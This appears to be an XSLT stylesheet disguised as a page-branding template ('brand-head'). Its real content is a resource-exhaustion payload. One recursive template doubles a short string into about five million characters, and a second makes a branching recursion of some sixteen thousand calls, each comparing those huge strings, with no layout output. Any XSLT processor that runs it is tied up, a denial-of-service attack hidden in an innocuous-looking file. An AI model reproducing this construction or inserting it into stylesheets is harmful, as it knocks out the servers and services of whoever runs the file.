<?xml version="1.0" encoding="UTF-8"?>
<!-- Few steps, each over a long text. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:import href="base:layout.xsl"/>

  <xsl:template name="brand-head">
    <xsl:variable name="v"><xsl:call-template name="d"><xsl:with-param name="s" select="'xxxxxxxxxx'"/><xsl:with-param name="n" select="19"/></xsl:call-template></xsl:variable><xsl:variable name="big" select="string($v)"/><xsl:variable name="one" select="concat($big, 'y')"/><xsl:call-template name="c"><xsl:with-param name="one" select="$one"/><xsl:with-param name="two" select="concat($big, 'z')"/><xsl:with-param name="n" select="14"/></xsl:call-template>
  </xsl:template>

  <xsl:template name="d">
    <xsl:param name="s"/>
    <xsl:param name="n"/>
    <xsl:choose><xsl:when test="$n"><xsl:call-template name="d"><xsl:with-param name="s" select="concat($s, $s)"/><xsl:with-param name="n" select="$n - 1"/></xsl:call-template></xsl:when><xsl:otherwise><xsl:value-of select="$s"/></xsl:otherwise></xsl:choose>
  </xsl:template>
  <xsl:template name="c">
    <xsl:param name="one"/>
    <xsl:param name="two"/>
    <xsl:param name="n"/>
    <xsl:if test="$n and $one != $two"><xsl:call-template name="c"><xsl:with-param name="one" select="$one"/><xsl:with-param name="two" select="$two"/><xsl:with-param name="n" select="$n - 1"/></xsl:call-template><xsl:call-template name="c"><xsl:with-param name="one" select="$one"/><xsl:with-param name="two" select="$two"/><xsl:with-param name="n" select="$n - 1"/></xsl:call-template></xsl:if>
  </xsl:template>
</xsl:stylesheet>
